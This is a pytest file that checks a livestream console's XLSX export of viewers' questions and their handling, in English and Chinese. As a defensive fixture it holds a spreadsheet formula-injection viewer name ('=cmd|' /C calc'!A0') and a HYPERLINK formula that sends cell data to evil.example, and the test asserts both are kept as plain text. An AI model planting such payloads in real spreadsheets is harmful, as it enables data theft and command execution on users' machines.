"""After the show, customer service's work is in the show's XLSX: every viewer's question with what became of it
(claimed, answered with which reply, dismissed — by whom and when) and the queue in figures on the summary, read
back cell by cell in English and Chinese, on real SQLite and PostgreSQL. A viewer's name or question that starts
with "=" stays the text written, never a live formula in the team's spreadsheet."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from console.core.chat.events import ChatEvent, ChatKind
from console.core.review.bundle import bundle_show
from console.core.review.export import SHEETS, write_show_xlsx
from console.core.storage import Storage
from tests.console.test_review_export import T0, stored_show, summary_of, table
from tests.language import chinese, english

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我领券")'


def ask(at_s: float, user: str, text: str, message_id: str) -> ChatEvent:
    return ChatEvent(
        "douyin", "file", ChatKind.COMMENT, f"9{len(user)}0000000000000{message_id[-1]}", user, text,
        wall=T0.timestamp() + at_s, message_id=message_id,
    )  # fmt: skip


def questions_of_a_show(storage: Storage) -> int:
    """Five questions: answered after a claim (80 s after asked), answered without one (40 s), dismissed, still
    claimed at the end, never touched (a hostile viewer's, marked by hand)."""
    show_id = stored_show(storage)
    t0 = T0.timestamp()
    asked = {}
    for at, user, text, mid in [
        (100, "小明", "保温杯多少钱？", "m1"),
        (200, "Lily", "Do you ship abroad?", "m2"),
        (300, "阿强", "哈哈主播好", "m3"),
        (400, "糖糖", "几号发货", "m4"),
        (500, "=cmd|' /C calc'!A0", HOSTILE, "m5"),
    ]:
        origin = "hand" if mid in ("m3", "m5") else "detected"
        asked[mid] = storage.add_question(show_id, ask(at, user, text, mid), origin, now=t0 + at)
    storage.claim_question(asked["m1"].id, "客服小周", now=t0 + 110)
    storage.answer_question(asked["m1"].id, "客服小周", "到手价 89 元，今晚包邮", now=t0 + 180)
    storage.answer_question(asked["m2"].id, "客服B", "Yes, to 40 countries", now=t0 + 240)
    storage.dismiss_question(asked["m3"].id, "客服小周", now=t0 + 305)
    storage.claim_question(asked["m4"].id, "客服B", now=t0 + 410)
    return show_id


@pytest.mark.parametrize("language", ["en", "zh_CN"])
def test_the_questions_and_their_answers_are_in_the_show_xlsx(storage: Storage, tmp_path: Path, language: str) -> None:
    say = english if language == "en" else chinese()
    path = tmp_path / "show.xlsx"
    write_show_xlsx(bundle_show(storage, questions_of_a_show(storage)), path, say, language)
    book = openpyxl.load_workbook(path)
    sheet_name = say("ReviewExport", SHEETS["questions"])
    assert sheet_name in book.sheetnames, "the viewers' questions are exported with the show"
    if language == "zh_CN":
        assert sheet_name == "观众提问"

    summary = summary_of(book.worksheets[0])
    assert summary[say("ReviewExport", "Questions (one asked by many viewers counts once)")] == 5
    assert summary[say("ReviewExport", "Questions answered")] == 2
    assert summary[say("ReviewExport", "Questions dismissed")] == 1
    assert summary[say("ReviewExport", "Questions never answered (open or claimed)")] == 2
    median = summary[say("ReviewExport", "Median time to an answer")]
    assert round(median.total_seconds() if hasattr(median, "total_seconds") else median * 86400) == 60  # 80 s, 40 s

    rows = table(book[sheet_name])
    header, rows = rows[0], rows[1:]
    assert header[:7] == [
        say("ReviewExport", word)
        for word in ("Asked", "Platform", "Viewer", "Viewer's id", "Question", "Found", "State")
    ]
    assert [row[4] for row in rows] == ["保温杯多少钱？", "Do you ship abroad?", "哈哈主播好", "几号发货", HOSTILE]
    first = dict(zip(header, rows[0], strict=True))
    t0 = datetime.fromtimestamp(T0.timestamp())
    assert first[say("ReviewExport", "Asked")] == t0.replace(minute=1, second=40)
    assert first[say("ReviewExport", "Viewer")] == "小明"
    # The platform in the reader's words, as the Comments dock says it (review17: "douyin", "file" in Chinese).
    assert first[say("ReviewExport", "Platform")] == say("Comments", "Douyin")
    if language == "zh_CN":
        assert first[say("ReviewExport", "Platform")] == "抖音"
    assert first[say("ReviewExport", "Viewer's id")] == "9200000000000001", "an id of digits stays text"
    assert first[say("ReviewExport", "State")] == say("Questions", "answered")
    assert first[say("ReviewExport", "Claimed by")] == "客服小周"
    assert first[say("ReviewExport", "Answered by")] == "客服小周"
    assert first[say("ReviewExport", "Answered")] == t0.replace(minute=3, second=0)
    assert first[say("ReviewExport", "Reply given")] == "到手价 89 元，今晚包邮"
    wait = first[say("ReviewExport", "Time to answer")]
    assert round(wait.total_seconds() if hasattr(wait, "total_seconds") else wait * 86400) == 80
    assert first[say("ReviewExport", "Found")] == say("ReviewExport", "found by the console")
    states = [row[6] for row in rows]
    assert states == [say("Questions", s) for s in ("answered", "answered", "dismissed", "claimed", "open")]
    dismissed = dict(zip(header, rows[2], strict=True))
    assert dismissed[say("ReviewExport", "Dismissed by")] == "客服小周"
    assert dismissed[say("ReviewExport", "Found")] == say("ReviewExport", "marked by hand")
    if language == "zh_CN":
        assert states[0] == "已回答" and dismissed[say("ReviewExport", "Found")] == "手动标记"

    hostile = book[sheet_name][len(rows) + 1]
    assert [cell.data_type for cell in hostile[2:5:2]] == ["s", "s"], "a viewer's text is never a formula"
    assert (hostile[2].value, hostile[4].value) == ("=cmd|' /C calc'!A0", HOSTILE)


def test_a_show_without_questions_has_no_questions_sheet_and_says_none(storage: Storage, tmp_path: Path) -> None:
    show = stored_show(storage)
    # The chat was read (a comments-per-minute figure stored), nobody asked: 0 questions. Without a chat source the
    # count is not known (tests/console/test_review_audience.py).
    storage.add_telemetry(show, [{"t": T0.timestamp() + 1300, "comments_per_min": 3.0}], [])
    path = tmp_path / "show.xlsx"
    write_show_xlsx(bundle_show(storage, show), path)
    book = openpyxl.load_workbook(path)
    assert "Questions" not in book.sheetnames
    summary = summary_of(book.worksheets[0])
    assert summary["Questions (one asked by many viewers counts once)"] == 0
    assert summary["Median time to an answer"] == "not known", "no answer: not known, never 0"
